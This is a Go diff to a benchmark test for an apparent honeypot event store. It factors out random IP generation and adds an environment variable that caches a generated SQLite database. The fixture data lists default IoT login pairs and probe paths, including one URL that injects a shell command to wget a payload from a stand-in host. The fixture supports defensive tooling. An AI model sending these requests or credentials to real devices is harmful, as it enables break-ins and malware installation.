@@ -9,6 +9,7 @@ import (
 	"net"
 	"net/http"
 	"net/url"
+	"os"
 	"path/filepath"
 	"testing"
 	"time"
@@ -34,7 +35,7 @@ func millionEvents(b *testing.B, path string) string {
 	rng := rand.New(rand.NewPCG(1, 2))
 	ips := make([]string, 20000)
 	for i := range ips {
-		ips[i] = fmt.Sprintf("%d.%d.%d.%d", 1+rng.IntN(223), rng.IntN(256), rng.IntN(256), 1+rng.IntN(254))
+		ips[i] = randIP(rng)
 	}
 	creds := [][2]string{{"root", "xc3511"}, {"root", "vizxv"}, {"admin", "admin"}, {"root", "888888"}, {"support", "support"}, {"user", "user"}}
 	urls := []string{"/", "/HNAP1/", "/.env", "/boaform/admin/formLogin", "/shell?cd+/tmp;wget+http://198.51.100.3/jaws"}
@@ -101,7 +102,19 @@ func millionEvents(b *testing.B, path string) string {
 func BenchmarkQueries1M(b *testing.B) {
 	tmp := b.TempDir()
 	db := filepath.Join(tmp, "events.db")
-	hot := millionEvents(b, db)
+	var hot string
+	// MINIPOT_BENCH_STORE names a store of these million events to make
+	// once and read again: under qemu-user for MIPS, making it takes an
+	// hour, and an SQLite file is the same on every architecture.
+	if keep := os.Getenv("MINIPOT_BENCH_STORE"); keep != "" {
+		db = keep
+		if _, err := os.Stat(keep); err != nil {
+			millionEvents(b, keep)
+		}
+		hot = hotSource()
+	} else {
+		hot = millionEvents(b, db)
+	}
 	dir := uci.Dir{Path: tmp}
 	s := settings.Defaults()
 	s.Store.Path = db
@@ -187,6 +200,13 @@ func BenchmarkQueries1M(b *testing.B) {
 		})
 	}
 }
+
+func randIP(rng *rand.Rand) string {
+	return fmt.Sprintf("%d.%d.%d.%d", 1+rng.IntN(223), rng.IntN(256), rng.IntN(256), 1+rng.IntN(254))
+}
+
+// hotSource is what millionEvents returns: the first address it draws.
+func hotSource() string { return randIP(rand.New(rand.NewPCG(1, 2))) }
 
 func decodeJSON(r io.ReadCloser, v any) error {
 	defer r.Close()
